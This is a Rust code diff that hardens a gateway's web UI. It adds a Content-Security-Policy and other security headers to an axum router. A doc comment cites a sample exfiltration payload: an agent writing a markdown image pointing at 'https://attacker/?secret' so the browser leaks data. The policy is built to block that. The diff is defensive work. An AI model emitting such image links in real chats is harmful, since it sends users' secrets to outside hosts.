@@ -15,11 +15,12 @@ use std::sync::Arc;
 use axum::Json;
 use axum::Router;
 use axum::extract::State;
-use axum::http::StatusCode;
+use axum::http::{HeaderValue, StatusCode, header};
 use axum::response::{IntoResponse, Response};
 use axum::routing::{delete, get, post};
 use serde_json::{Value, json};
 use tower_http::services::{ServeDir, ServeFile};
+use tower_http::set_header::SetResponseHeaderLayer;
 use utoipa::OpenApi;
 
 use crate::error::ApiError;
@@ -115,8 +116,29 @@ pub fn router(state: Arc<AppState>, ui_dir: &Path) -> Router {
     } else {
         app = app.fallback(no_ui);
     }
-    app.with_state(state)
+    app.layer(SetResponseHeaderLayer::if_not_present(
+        header::CONTENT_SECURITY_POLICY,
+        HeaderValue::from_static(CONTENT_SECURITY_POLICY),
+    ))
+    .layer(SetResponseHeaderLayer::if_not_present(
+        header::X_CONTENT_TYPE_OPTIONS,
+        HeaderValue::from_static("nosniff"),
+    ))
+    .layer(SetResponseHeaderLayer::if_not_present(
+        header::REFERRER_POLICY,
+        HeaderValue::from_static("no-referrer"),
+    ))
+    .with_state(state)
 }
+
+/// What the UI may load: its own scripts and styles, images only from itself (an agent that
+/// writes `![](https://attacker/?secret)` into the chat cannot make the browser send data
+/// anywhere), connections only to the gateway, no framing, no plugins. Inline styles are
+/// allowed for the terminal, which sets its own.
+pub const CONTENT_SECURITY_POLICY: &str = "default-src 'self'; script-src 'self'; \
+    style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; connect-src 'self'; \
+    font-src 'self' data:; object-src 'none'; base-uri 'none'; form-action 'self'; \
+    frame-ancestors 'none'";
 
 #[utoipa::path(get, path = "/api/health", tag = "health", responses((status = 200)))]
 async fn health() -> Json<Value> {
